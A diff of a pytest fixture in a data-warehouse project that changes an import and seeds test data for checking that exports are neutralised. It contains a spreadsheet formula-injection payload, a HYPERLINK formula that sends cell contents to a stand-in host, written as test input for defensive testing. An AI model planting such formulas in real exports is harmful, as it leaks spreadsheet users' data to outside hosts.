@@ -14,9 +14,9 @@ import pytest
 from pipelines.cli import main
 from tests.hand_made import load_rows, made_case
 from warehouse.export_safety import neutralise
-from warehouse.marts.catalogues import definition_body, register
+from warehouse.marts.catalogues import register
 from warehouse.marts.publish import publish
-from warehouse.outcomes.registry import shipped_registry
+from warehouse.outcomes.registry import definition_to_dict, shipped_registry
 from warehouse.store.store import open_store
 
 FORMULA = '=HYPERLINK("http://lantern.example/?x="&A1,"more")'
@@ -45,7 +45,7 @@ def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
     ]
     load_rows(folder, rows, source=FORMULA, practice=SCRIPT)
     with open_store(folder) as store:
-        body = definition_body(shipped_registry().get("D1"))
+        body = definition_to_dict(shipped_registry().get("D1"))
         register(store, "definition", "X1", "1.0.0", {**body, "id": "X1", "label": FORMULA, "source": SCRIPT})
         store.execute("update loads set n_read = n_read + 5, n_turned_away = 5")
         for row, text in enumerate(PLANTED, start=900):
